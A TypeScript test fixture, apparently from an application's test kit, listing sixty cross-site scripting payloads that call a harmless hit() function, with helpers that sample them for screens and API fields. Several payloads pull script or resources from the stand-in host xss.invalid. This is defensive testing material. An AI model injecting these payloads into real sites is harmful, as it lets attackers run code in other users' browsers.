// Sixty texts that run a script where a page takes text for markup (REL-41): each would call `hit`.

import { sampleSome } from '@fairtick/testkit/drawn-sample'

/** Of at most 80 characters, so that names and details of banks take them. */
export const PAYLOADS: readonly string[] = [
  '<script>hit()</script>',
  '<ScRiPt>hit()</sCrIpT>',
  '<script src=//xss.invalid/x.js></script>',
  '<script>hit()//',
  '</script><script>hit()</script>',
  '</title><script>hit()</script>',
  '</textarea><script>hit()</script>',
  '--><script>hit()</script><!--',
  ']]><script>hit()</script>',
  '<img src=x onerror=hit()>',
  '<img/src=x/onerror=hit()>',
  '<IMG SRC=x OnErRoR=hit()>',
  '<img src=x onerror="hit()"',
  '<img src=//xss.invalid/i.png>',
  '<img src=data:,x onerror=hit()>',
  '<image src=x onerror=hit()>',
  '"><img src=x onerror=hit()>',
  "'><img src=x onerror=hit()>",
  '`><img src=x onerror=hit()>',
  '" onmouseover=hit() autofocus onfocus=hit() x="',
  "' autofocus onfocus=hit() x='",
  '<svg onload=hit()>',
  '<svg/onload=hit()>',
  '<svg><script>hit()</script></svg>',
  '<svg><animate onbegin=hit() attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:hit()"><text y=9>a</text></a>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=hit()>#x"/>',
  '<math><mtext><img src=x onerror=hit()></mtext></math>',
  '<math><mi//xlink:href="data:x,<script>hit()</script>">',
  '<iframe src=javascript:hit()></iframe>',
  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  '<iframe onload=hit()></iframe>',
  '<object data=javascript:hit()></object>',
  '<object data=//xss.invalid/o></object>',
  '<embed src=//xss.invalid/e>',
  '<body onload=hit()>',
  '<body onpageshow=hit()>',
  '<details open ontoggle=hit()>a</details>',
  '<marquee onstart=hit()>a</marquee>',
  '<video><source onerror=hit()></video>',
  '<video src=x onerror=hit()></video>',
  '<audio src=x onerror=hit()>',
  '<input autofocus onfocus=hit()>',
  '<select autofocus onfocus=hit()></select>',
  '<textarea autofocus onfocus=hit()></textarea>',
  '<keygen autofocus onfocus=hit()>',
  '<link rel=stylesheet href=//xss.invalid/s.css>',
  '<style>@import "//xss.invalid/s.css";</style>',
  '<style onload=hit()>a{}</style>',
  '<div style=background:url(//xss.invalid/b.png)>a</div>',
  '<div style="animation:ui-appear 1s" onanimationstart=hit()>a</div>',
  '<meta http-equiv=refresh content="0;url=javascript:hit()">',
  '<base href=//xss.invalid/>a',
  '<form action=javascript:hit()><button autofocus>a</button></form>',
  '<a href=javascript:hit()>a</a>',
  'javascript:hit()//a',
  'data:text/html,<script>hit()</script>',
  '{{constructor.constructor("hit()")()}}',
  '\u0024{hit()} #{hit()} <%=hit()%> a',
  '\\u003cimg src=x onerror=hit()\\u003e&lt;img src=x onerror=hit()&gt;',
]

/** Every sixth, of each kind one, comes first. */
const BY_KIND = PAYLOADS.map((payload, place) => ({ payload, isFixed: place % 6 === 3 }))
  .toSorted((left, right) => Number(right.isFixed) - Number(left.isFixed))
  .map(({ payload }) => payload)

/** Those that the browsers of this run meet on every screen; in a campaign all. */
export const SHOWN_PAYLOADS = sampleSome('payloads on screens', BY_KIND, { fixed: 10, drawn: 10 })

/** Those that this run sends to one field of a call; in a campaign all. */
export function payloadsFor(field: string): readonly string[] {
  return sampleSome(`payloads for ${field}`, BY_KIND, { fixed: 5, drawn: 10 })
}
